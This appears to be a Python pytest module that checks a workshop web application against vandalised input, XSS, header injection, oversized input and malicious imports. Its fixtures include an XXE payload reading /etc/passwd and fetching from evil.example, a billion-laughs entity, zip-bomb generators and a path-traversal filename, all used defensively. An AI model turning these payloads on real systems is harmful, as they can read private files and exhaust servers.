"""Two people who mean harm write everywhere they can: every page and every file shows it, and is not harmed.

The same in a real browser is in tests/browser/test_vandals.py; damaged bundles are in
tests/test_odd_bundles.py, formulas in tables in tests/test_tables.py, hostile connections in
tests/test_hostile.py.
"""

from __future__ import annotations

import io
import json
import re
import sqlite3
import typing
import zipfile
from collections.abc import Iterator
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

import pytest

from dialogue import App, edge
from dialogue.activities import COMMANDS
from dialogue.exports.document import Level
from dialogue.exports.forms import FORMS, Source, find_form, source_of, unheard
from dialogue.text import render_markdown
from tests.fuzzing.described import routes_of
from tests.hostile.harmless import READERS, TURNS, Read, assert_file_is_harmless, assert_page_is_harmless
from tests.hostile.vandals import NAME, ORGANISATION, PLAN, Vandals
from tests.hostile.words import HOSTILE, LINKS, MARK, TAGS, TURNING
from tests.organisers import organiser
from tests.visits import Held, Visitor

NO_WORDS = {"activity", "due", "answer", "settings"}
"""Fields whose text is one of a few, or is tried with its question or its plan."""
NOT_THEIRS = {"board.seed"}
"""Commands that nobody sends, besides those that are open to no role."""


@pytest.fixture(scope="module")
def patience() -> Iterator[pytest.MonkeyPatch]:
    with pytest.MonkeyPatch.context() as patch:
        yield patch


@pytest.fixture(scope="module")
def vandalised(app: App, patience: pytest.MonkeyPatch) -> SimpleNamespace:
    """The workshop after all that; each page was looked at twice, while it was open and when it was over."""
    # They write more than anybody may within ten seconds; that somebody is held back is tried elsewhere.
    patience.setattr(edge.COMMANDS, "most", 10_000)
    olga = organiser(app)
    held = Held(app, PLAN)
    sectors = held.records("workshop")[1]["sectors"]
    ana = Visitor(app)
    who = {"name": NAME, "organisation": ORGANISATION, "sector": sectors[0], "language": "en"}
    joined = ana.posts(f"/join/{held.code}", **who)
    assert joined.status_code == 200, joined.text
    held.fay.posts(f"/w/{held.code}/me", name=NAME)
    people = {"fay": held.fay, "ana": ana}

    def do(who: str, name: str, data: dict[str, Any]) -> int:
        answer = people[who].posts(f"/w/{held.code}/command", name=name, data=data).get_json()
        assert "seq" in answer, (name, data, answer)
        return int(answer["seq"])

    vandals = Vandals(do, held.records)
    eyes = people | {"olga": olga, "stranger": Visitor(app)}
    for role in ("observer", "screen"):
        eyes[role] = Visitor(app)
        eyes[role].client.get(held.links[role])
    pages: dict[tuple[str, str, str], Any] = {}
    vandals.begin()
    vandals.write()
    pages |= looked_at(app, held, eyes, "open")
    vandals.end()
    summarised(held, ana)
    pages |= looked_at(app, held, eyes, "closed")
    return SimpleNamespace(held=held, vandals=vandals, pages=pages, ana=ana, olga=olga)


@pytest.fixture
def source(app: App, vandalised: SimpleNamespace) -> Iterator[Source]:
    """The workshop, to be written down."""
    with app.test_request_context():
        yield source_of(app.database, app.people, vandalised.held.listed.id, vandalised.held.code)


def looked_at(app: App, held: Held, eyes: dict[str, Visitor], when: str) -> dict[tuple[str, str, str], Any]:
    """Every page that there is, as each of them gets it."""
    paths = {
        route.path.replace("<code>", held.code)
        for route in routes_of(app)
        if route.method == "GET" and set(route.arguments) <= {"code"} and "/socket.io/" not in route.path
    }
    paths |= {f"/workshops?q={quote(text)}" for text in HOSTILE[:12]}
    paths |= {f"/w/{held.code}/archive?language=ar", f"/w/{held.code}/plain/news?since=1&show=yes"}
    paths |= {f"/w/{held.code}/view?as=screen", f"/join/{quote(HOSTILE[0], safe='')}"}
    paths |= {f"/w/{held.code}/archive/flag?at={name}" for name in ("summary.people", quote(HOSTILE[0]))}
    leave = {path for path in paths if "sign-out" in path}
    return {
        (when, name, path): visitor.client.get(path)
        for path in sorted(paths - leave)
        for name, visitor in eyes.items()
    }


def summarised(held: Held, ana: Visitor) -> None:
    """Paragraphs of the report in other words, and what Ana says of them."""
    address = f"/w/{held.code}/archive/summary"
    form = held.fay.goes(address).form_to(address)
    names = [name for name, _ in form.fields if f"was-{name}" in dict(form.fields)]
    assert names
    # A form with the sign that is none is refused as a whole.
    hostile = [text.replace("\0", "") for text in HOSTILE]
    words = {name: "\n\n".join(hostile[n::4])[:1_500] for n, name in enumerate(names)}
    assert held.fay.sends(form, **words).status == 200
    flag, note = f"/w/{held.code}/archive/flag", min(held.records("note"))
    said = ana.sends(ana.goes(f"{flag}?at=note-{note}").form_to(flag), text=HOSTILE[0])
    assert said.status == 200


# ---- They really wrote it


def test_every_command_that_takes_words_got_them(vandalised: SimpleNamespace) -> None:
    """A new command with words is missing here until somebody vandalises it too."""
    wanted = set()
    for name, kind in COMMANDS.items():
        if name in NOT_THEIRS or not kind.open_to:
            continue
        for field, hint in typing.get_type_hints(kind).items():
            takes = hint is str or str in typing.get_args(hint)
            if takes and field in kind.__struct_fields__ and field not in NO_WORDS:
                wanted.add((name, field))
    assert len(wanted) > 20
    missing = wanted - vandalised.vandals.tried
    assert not missing


@pytest.mark.parametrize("who", ["ana", "fay", "observer", "screen", "olga"])
def test_it_is_shown_to_whoever_may_see_it(vandalised: SimpleNamespace, who: str) -> None:
    shown = " ".join(page.text for (_, name, _), page in vandalised.pages.items() if name == who)
    assert shown.count(MARK) > 50


# ---- Pages


def test_no_page_becomes_anything_else_by_what_they_wrote(vandalised: SimpleNamespace) -> None:
    looked = 0
    for (when, who, path), page in vandalised.pages.items():
        assert page.status_code < 500, (when, who, path)
        if page.mimetype == "text/html":
            try:
                read = assert_page_is_harmless(page.text)
            except AssertionError as error:
                raise AssertionError((when, who, path, str(error)[:600])) from error
            looked += MARK in " ".join(read.words)
            # The policy that would stop them is there too.
            policy = page.headers["Content-Security-Policy"]
            assert "script-src 'self'" in policy and "unsafe-inline" not in policy
    assert looked > 40, "They are on many pages."


def test_nothing_turns_the_words_of_others_round(vandalised: SimpleNamespace) -> None:
    """What would turn them is taken out before it is kept, so no surface and no file has to take care."""
    for place, page in vandalised.pages.items():
        if page.mimetype in ("text/html", "application/json"):
            assert not TURNS.search(page.text), place
            assert not re.search(r"\\u20(2[a-e]|6[6-9])", page.text, re.IGNORECASE), place
    assert "vandal gnp.exe" in [note["text"] for note in vandalised.held.records("note").values()]


@pytest.mark.sqlite
def test_no_sign_that_turns_is_kept_anywhere(app: App, vandalised: SimpleNamespace) -> None:
    with sqlite3.connect(app.dialogue.database_url.removeprefix("sqlite:///")) as connection:
        kept = "\n".join(connection.iterdump())
    assert "vandal gnp.exe" in kept
    assert not TURNS.search(kept)
    assert not re.search(r"\\u20(2[a-e]|6[6-9])", kept, re.IGNORECASE)


def test_no_answer_has_a_head_that_they_wrote(vandalised: SimpleNamespace) -> None:
    for place, page in vandalised.pages.items():
        assert not {"X-Owned", "X", "Y"} & set(page.headers.keys()), place
        assert "owned=1" not in page.headers.getlist("Set-Cookie"), place


def test_a_file_is_called_after_its_workshop_and_nothing_else(vandalised: SimpleNamespace) -> None:
    shown = vandalised.olga.client.get(f"/w/{vandalised.held.code}/export/markdown")
    assert shown.status_code == 200
    said = shown.headers["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename=[\w.-]+", said) and said.endswith(".md"), said


@pytest.mark.parametrize("text", LINKS + TAGS)
def test_markdown_leads_nowhere_but_to_pages(text: str) -> None:
    shown = Read(render_markdown(f"See this: {text}\n\n> {text}\n\n- {text}"))
    assert not shown.wrong, shown.wrong
    assert not {tag for tag, _ in shown.tags} - {"p", "blockquote", "ul", "li", "a", "br"}


# ---- Files


@pytest.mark.parametrize("form", sorted(READERS))
@pytest.mark.parametrize("level", list(Level))
def test_no_file_does_anything_but_be_read(source: Source, form: str, level: Level) -> None:
    content = find_form(form).write(source, level, unheard)
    assert MARK in assert_file_is_harmless(form, content)


def test_every_form_is_looked_at(source: Source) -> None:
    assert set(FORMS) == {*READERS, "png", "bundle"}
    content = find_form("bundle").write(source, Level.ORGANISER, unheard)
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        assert "viewer.html" in packed.namelist()
        for name in packed.namelist():
            assert re.fullmatch(r"[\w./-]+", name) and ".." not in name and not name.startswith("/")
            form = name.rpartition("/")[2].partition(".")[0]
            if form in READERS and form != "viewer":
                assert MARK in assert_file_is_harmless(form, packed.read(name)), name


@pytest.mark.parametrize("form", ["docx", "xlsx", "csv", "pdf"])
def test_what_they_wrote_reaches_paper_as_it_is(source: Source, form: str) -> None:
    """No template of ours, and no typesetter, takes it for anything but words."""
    words = assert_file_is_harmless(form, find_form(form).write(source, Level.ORGANISER, unheard))
    assert "{{7*7}}" in words and "{{49" not in words and "#eval" in words and "root:" not in words


# ---- What is too much


@pytest.fixture
def room(vandalised: SimpleNamespace, app: App) -> SimpleNamespace:
    """Another workshop, with Ana in it, and Olga, whose it is."""
    board = {"activity": "board", "questions": ["Why?"]}
    held = Held(app, {"title": "Quiet", "sectors": [], "stages": [board]})
    held.begins(0)
    ana = Visitor(app)
    ana.posts(f"/join/{held.code}", name="Ana")
    return SimpleNamespace(held=held, ana=ana, olga=vandalised.olga, board=min(held.records("board")))


@pytest.mark.parametrize("size", [1_000, 100_000, 10_000_000])
def test_too_many_words_are_refused_in_a_sentence(room: SimpleNamespace, size: int) -> None:
    for path, body in (
        ("/command", {"name": "note.add", "data": {"board": room.board, "text": "W" * size}}),
        ("/me", {"name": "W" * size}),
    ):
        answer = room.ana.posts(f"/w/{room.held.code}{path}", **body)
        assert answer.get_json()["reason"] in ("too-long", "too-large")
        assert len(answer.text) < 2_000, "It is not sent back."
    answer = room.ana.client.post(f"/join/{room.held.code}", data={"name": "W" * size})
    assert answer.status_code in (400, 413)
    assert not room.held.records("note")


@pytest.mark.parametrize("text", ["\\ud800", "\\udfff\\ud800", "ok \\ud83d"])
def test_half_a_character_is_refused_before_it_is_kept(room: SimpleNamespace, text: str) -> None:
    body = f'{{"name": "note.add", "data": {{"board": {room.board}, "text": "{text}"}}}}'
    answer = room.ana.client.post(
        f"/w/{room.held.code}/command", data=body, headers={"Content-Type": "application/json"}
    )
    assert answer.status_code in (400, 409) and answer.get_json()["reason"] in ("wrong-data", "empty")
    assert not room.held.records("note")


ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{ENTITIES}]>'
OUTSIDE = (
    '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/">%p;]>'
)


@pytest.mark.parametrize("head", [LAUGHS, OUTSIDE], ids=["laughs", "outside"])
def test_an_outline_that_would_grow_or_fetch_is_refused(room: SimpleNamespace, head: str) -> None:
    entity = "l9" if head is LAUGHS else "f"
    tree = f'<opml version="2.0"><head/><body><outline text="&{entity};"/></body></opml>'
    node = f'<map version="1"><node TEXT="&{entity};"><node TEXT="b"/></node></map>'
    for name, content in (("a.opml", head + tree), ("a.mm", head + node), ("a.txt", head + tree)):
        answer = brought(room, f"/workshops/{room.held.code}/seed", file=(content.encode(), name))
        assert answer.status_code == 400 and "root:" not in answer.text, name
    assert not room.held.records("note")


def bomb(size: int, count: int = 1) -> bytes:
    """Zeros, packed."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as packed:
        for n in range(count):
            with packed.open(f"{n}.json" if n else "manifest.json", "w") as file:
                for _ in range(size // 1_000_000):
                    file.write(bytes(1_000_000))
    return into.getvalue()


def nested(depth: int) -> bytes:
    """Zips in zips in zips."""
    content = bomb(1_000_000)
    for n in range(depth):
        into = io.BytesIO()
        with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as packed:
            for m in range(10):
                packed.writestr(f"{n}-{m}.zip", content)
        content = into.getvalue()
    return content


def overlapping() -> bytes:
    """A zip whose files all lie in the same place."""
    content = bytearray(bomb(1_000_000, 20))
    places = [found.start() for found in re.finditer(b"PK\1\2", bytes(content))]
    for place in places:
        content[place + 42 : place + 46] = content[places[0] + 42 : places[0] + 46]
    return bytes(content)


@pytest.mark.parametrize(
    "content",
    [bomb(60_000_000), nested(3), overlapping(), b"PK\x03\x04" + b"\0" * 5_000, bomb(2_000_000, 250)],
    ids=["dense", "nested", "overlapping", "broken", "many"],
)
def test_a_bundle_that_would_fill_the_memory_is_refused(room: SimpleNamespace, content: bytes) -> None:
    before = len(room.held.app.register.all())
    answer = brought(room, "/workshops/import", bundle=(content, "../../<b>a.zip"))
    assert answer.status_code == 400 and len(answer.text) < 50_000
    assert_page_is_harmless(answer.text)
    assert len(room.held.app.register.all()) == before


def test_a_zip_of_tables_that_would_grow_is_refused(room: SimpleNamespace) -> None:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("notes.csv", b"question,note\na," + b"W" * 200_000_000)
    assert len(into.getvalue()) < 1_000_000
    answer = brought(room, f"/workshops/{room.held.code}/seed", file=(into.getvalue(), "a.zip"))
    assert answer.status_code == 400 and not room.held.records("note")


def brought(room: SimpleNamespace, address: str, **files: tuple[bytes, str]) -> Any:
    """A file that Olga sends with a form."""
    page = room.olga.goes(address)
    token = next(form.get("csrf_token") for form in page.forms if form.get("csrf_token"))
    sent = {field: (io.BytesIO(content), name) for field, (content, name) in files.items()}
    return room.olga.client.post(
        address, data={"csrf_token": token, **sent}, content_type="multipart/form-data"
    )


@pytest.mark.parametrize("name", ["organisation", "name", "sector", "passphrase", "rejoin", "language"])
@pytest.mark.parametrize("text", [TAGS[0], TAGS[1], f"{TURNING}x"], ids=["script", "image", "turned"])
def test_a_form_that_comes_back_holds_words_and_no_tags(room: SimpleNamespace, name: str, text: str) -> None:
    stranger = Visitor(room.held.app)
    door = f"/join/{room.held.code}"
    shown = stranger.sends(
        stranger.goes(door).form_to(door), **{"name": "x" * 300, "organisation": "x" * 300, name: text}
    )
    assert shown.status == 400
    # What somebody typed comes back to them alone, in its field, as they typed it.
    assert not [wrong for wrong in Read(shown.source).wrong if "is turned" not in wrong]


def test_what_is_sent_as_data_is_taken_for_data(vandalised: SimpleNamespace) -> None:
    """It says what it is, and no browser guesses anything else."""
    for place, page in vandalised.pages.items():
        assert page.headers["X-Content-Type-Options"] == "nosniff", place
        if page.mimetype == "application/json":
            json.loads(page.text)
